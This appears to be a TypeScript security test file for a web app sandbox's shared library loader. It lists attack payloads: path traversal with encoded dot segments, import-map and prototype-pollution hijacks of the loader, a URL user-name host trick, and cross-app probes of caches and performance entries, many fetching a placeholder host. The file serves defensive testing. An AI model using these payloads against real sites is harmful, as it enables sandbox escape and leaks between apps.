import { module, patches, script, type Vector } from '../vector.ts'

const got = "top.postMessage({got:1},'*')"
const file = '{cdn}lodash@4.17.21/lodash.min.js'
const tag = `<script src="${file}"></script>`
const wrongHash = `sha256-${'A'.repeat(43)}=`
const events = `onload="fetch('{http}')" onerror="fetch('{http}')"`

const page = (name: string, html: string, more: Partial<Vector> = {}): Vector => ({
  name,
  page: html,
  libraries: 'there',
  ...more,
})
/** A page with a library and with an import map of its own. */
const mapped = (name: string, key: string, imported: string): Vector =>
  page(
    name,
    `<script type=importmap>{"imports":{"${key}":"{http}"}}</script>${tag}` +
      module(`import '${imported}'`),
  )
/** A page that changes built-in methods after the loader has run, and then uses the loader. */
const polluted = (name: string, code: string): Vector => page(name, tag + script(code))
/** A page that looks for `{library}`, a library file that another app uses. */
const probe = (name: string, code: string): Vector => page(name, tag + script(code), { by: 'told' })

const load = (url: string): string =>
  `const s=document.createElement('script');s.src=${url};document.head.append(s)`

/** Ways through the library store, its loader, and the files that apps share. */
export const libraries: Vector[] = [
  page('library by its tag', tag),
  page('library by a script', script(load(`'${file}'`))),
  page('library by import()', script(`import('${file}')`)),
  page('library by fetch', script(`fetch('${file}')`)),
  page('library host that is another host', `${tag}<script src="{http}npm/lodash@4"></script>`),
  page(
    'library host as a user name',
    `${tag}<script src="http://cdn.jsdelivr.net@{host}/npm/lodash@4.17.21/lodash.min.js"></script>`,
    { live: ['firefox'] },
  ),
  page(
    'library that does not match its integrity',
    `<script src="${file}" integrity="${wrongHash}" ${events}></script>`,
  ),
  page('library that was removed', `<script src="{cdn}howler@2.2.4" ${events}></script>`, {
    libraries: 'removed',
  }),
  page(
    'path that leaves the libraries',
    tag +
      script(
        "for(const path of['{cdn}lodash@4.17.21/../../../watch','/a/libraries/../../watch'," +
          "'/a/libraries/%2e%2e/%2e%2e/watch'])" +
          `fetch(path).then(r=>r.text()).then(t=>{if(t.includes('person=ann'))${got}}).catch(()=>0)`,
      ),
    { by: 'told' },
  ),
  mapped('import map with a bare name', 'lodash', 'lodash'),
  mapped('import map that replaces a library', file, file),
  mapped('import map with the name of a prototype', '__proto__', '__proto__'),
  mapped('import map with the name of a library file', 'berth:x@1.0.0/x.js', 'berth:x@1.0.0/x.js'),
  page(
    '1,000 libraries',
    Array.from({ length: 1_000 }, (_, at) => `<script async src="${file}?${at}"></script>`).join(
      '',
    ),
  ),
  polluted('loader with other built-in methods', patches + load(`'{http}'`)),
  polluted(
    'loader with another Map',
    `Map.prototype.get=()=>'{http}';${load(`new Map([['${file}','']]).get('${file}')`)}`,
  ),
  polluted(
    'loader with another replaceAll',
    "String.prototype.replaceAll=()=>'<img src={http}>';document.write('//'.replaceAll('a','b'))",
  ),
  polluted(
    'loader with another Object.prototype',
    `Object.prototype.url=Object.prototype.src='{http}';${load('({}).url')}`,
  ),
  probe('library of another app by fetch', `fetch('{library}').then(r=>{if(r.ok)${got}})`),
  probe(
    'library of another app by tag',
    `const s=document.createElement('script');s.onload=()=>${got};s.src='{library}';document.head.append(s)`,
  ),
  probe(
    'library of another app in the HTTP cache',
    "fetch('{library}').catch(()=>0).then(()=>fetch('{library}',{cache:'only-if-cached',mode:'same-origin'}))" +
      `.then(r=>{if(r.ok)${got}})`,
  ),
  probe(
    'library of another app in caches',
    `caches.open('x').then(c=>c.add('{library}')).then(()=>caches.match('{library}')).then(r=>{if(r)${got}})`,
  ),
  probe(
    'library of another app in performance entries',
    "fetch('{library}').catch(()=>0).then(()=>setTimeout(()=>{if(performance.getEntriesByType('resource')" +
      `.some(e=>e.name.includes('/a/libraries/')&&e.decodedBodySize>0))${got}},200))`,
  ),
  probe(
    'library of another app in entries of the viewer',
    `setTimeout(()=>{if(parent.performance.getEntriesByType('resource').length>=0)${got}},200)`,
  ),
]
